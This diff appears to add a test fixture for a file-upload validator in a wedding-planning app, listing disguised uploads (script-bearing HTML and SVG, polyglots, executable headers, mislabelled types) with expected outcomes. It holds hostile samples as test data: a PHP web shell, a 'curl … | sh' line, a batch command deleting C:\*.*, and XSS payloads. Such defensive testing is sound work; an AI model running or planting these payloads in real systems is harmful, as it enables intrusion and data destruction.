@@ -1,0 +1,163 @@
+/** Files that are more, or other, than they say. */
+import { pdf, picture, realFile, sheetEntries, wordEntries } from "../files.ts";
+import { zipOf } from "../zips.ts";
+import { damaged, notOurs, sending } from "./upload.ts";
+
+const script = "<script>fetch('/api/mariage/photos')</script>";
+const page = `<!doctype html><title>x</title>${script}`;
+const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
+
+const active = sending("active content in disguise", [
+  ["a page called a text", { name: "liste.txt", bytes: page, type: "text/plain" }, notOurs],
+  ["a page called a photo", { name: "nous.png", bytes: page, type: "image/png" }, notOurs],
+  ["a page behind many spaces", { name: "liste.csv", bytes: `${" \r\n".repeat(5000)}${page}` }, notOurs],
+  ["a page in UTF-16", { name: "liste.txt", bytes: Buffer.from(`\u{feff}${page}`, "utf16le") }, notOurs],
+  ["a drawing with a script", { name: "plan.svg", bytes: drawing, type: "image/svg+xml" }, notOurs],
+  ["a drawing called a photo", { name: "plan.jpg", bytes: `<?xml version="1.0"?>${drawing}` }, notOurs],
+  [
+    "a saved page with its parts",
+    { name: "devis.txt", bytes: `From: <x>\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${page}` },
+    notOurs,
+  ],
+  ["php called a text", { name: "devis.php.txt", bytes: "<?php system($_GET['c']); ?>" }, notOurs],
+]);
+
+async function pictureWith(type: "image/png" | "image/jpeg" | "image/webp", behind: string | Buffer) {
+  return Buffer.concat([await picture(type), Buffer.from(behind)]);
+}
+
+const jar = () =>
+  zipOf([
+    { name: "META-INF/MANIFEST.MF", content: "Main-Class: A" },
+    { name: "A.class", content: "x" },
+  ]);
+
+const polyglots = sending("two files in one", [
+  [
+    "a gif that is a jar",
+    {
+      name: "nous.gif",
+      bytes: async () => Buffer.concat([Buffer.from("GIF89a\x01\0\x01\0\0\0\0;"), await jar()]),
+    },
+    notOurs,
+  ],
+  [
+    "a pdf that is a page",
+    { name: "devis.pdf", bytes: () => Buffer.concat([pdf(), Buffer.from(page)]) },
+    { kept: "application/pdf", as: "devis.pdf" },
+  ],
+  [
+    "a page that is a pdf",
+    { name: "devis.pdf", bytes: () => Buffer.concat([Buffer.from(`${page}\n`), pdf()]) },
+    notOurs,
+  ],
+  [
+    "a photo that is a zip",
+    { name: "nous.jpg", bytes: async () => pictureWith("image/jpeg", await jar()) },
+    { kept: "image/jpeg", as: "nous.jpg" },
+  ],
+  [
+    "a photo that is a page",
+    { name: "nous.html", bytes: () => pictureWith("image/png", page) },
+    { kept: "image/png", as: "nous.html.png" },
+  ],
+  [
+    "a photo that is a script",
+    { name: "nous.webp", bytes: () => pictureWith("image/webp", `*/=1;alert(1)//${script}`) },
+    { kept: "image/webp", as: "nous.webp" },
+  ],
+  [
+    "a zip that is a pdf",
+    { name: "devis.pdf", bytes: async () => Buffer.concat([await jar(), pdf()]) },
+    damaged,
+  ],
+  [
+    "a contract that is a page",
+    {
+      name: "contrat.docx",
+      bytes: async () => Buffer.concat([await zipOf(wordEntries()), Buffer.from(page)]),
+    },
+    damaged,
+  ],
+]);
+
+const programs = sending("programs", [
+  ["of Windows", { name: "devis.pdf", bytes: `MZ\x90\0\x03\0\0\0${"\0".repeat(200)}PE\0\0` }, notOurs],
+  ["of Linux", { name: "devis.txt", bytes: `\x7fELF\x02\x01\x01${"\0".repeat(60)}` }, notOurs],
+  ["of macOS", { name: "devis.png", bytes: Buffer.from("cffaedfe07000001", "hex") }, notOurs],
+  ["for Java", { name: "devis.docx", bytes: jar }, notOurs],
+  ["for a shell", { name: "devis.txt", bytes: "#!/bin/sh\ncurl http://exemple.invalid | sh\n" }, notOurs],
+  ["for a browser", { name: "plan.wasm", bytes: Buffer.from("0061736d01000000", "hex") }, notOurs],
+  [
+    "for a browser, in words",
+    { name: "plan.js", bytes: "alert(document.domain)", type: "text/javascript" },
+    { kept: "text/plain", as: "plan.js.txt" },
+  ],
+  [
+    "for Windows, in words",
+    { name: "devis.bat", bytes: "del /q C:\\*.*\r\n", type: "application/x-bat" },
+    { kept: "text/plain", as: "devis.bat.txt" },
+  ],
+]);
+
+const endings = sending("an ending that lies", [
+  [
+    "a photo called a pdf",
+    { name: "devis.pdf", bytes: () => picture("image/png") },
+    { kept: "image/png", as: "devis.png" },
+  ],
+  [
+    "a pdf called a photo",
+    { name: "nous.jpg", bytes: () => pdf() },
+    { kept: "application/pdf", as: "nous.pdf" },
+  ],
+  [
+    "a sheet called a contract",
+    { name: "contrat.docx", bytes: async () => zipOf(sheetEntries()) },
+    { kept: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", as: "contrat.xlsx" },
+  ],
+  [
+    "a text called a pdf",
+    { name: "devis.pdf", bytes: () => realFile("text/plain") },
+    { kept: "text/plain", as: "devis.txt" },
+  ],
+  [
+    "a pdf called a program",
+    { name: "devis.pdf.exe", bytes: () => pdf() },
+    { kept: "application/pdf", as: "devis.pdf.exe.pdf" },
+  ],
+  [
+    "a contract called a page",
+    { name: "contrat.html", bytes: async () => zipOf(wordEntries()), type: "text/html" },
+    {
+      kept: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+      as: "contrat.html.docx",
+    },
+  ],
+]);
+
+const claims = sending("a type that lies", [
+  [
+    "a photo said to be a page",
+    { name: "nous.png", bytes: () => picture("image/png"), type: "text/html" },
+    { kept: "image/png", as: "nous.png" },
+  ],
+  [
+    "a text said to be a drawing",
+    { name: "note.txt", bytes: "Bonjour", type: "image/svg+xml" },
+    { kept: "text/plain", as: "note.txt" },
+  ],
+  ["a page said to be a pdf", { name: "devis.pdf", bytes: page, type: "application/pdf" }, notOurs],
+  [
+    "a text said to be several things",
+    { name: "note.txt", bytes: "Bonjour", type: "text/plain, text/html; charset=utf-7" },
+    { kept: "text/plain", as: "note.txt" },
+  ],
+  [
+    "a text said to be json",
+    { name: "note.txt", bytes: "{", type: "application/json" },
+    { kept: "text/plain", as: "note.txt" },
+  ],
+]);
+
+export const contents = [...active, ...polyglots, ...programs, ...endings, ...claims];
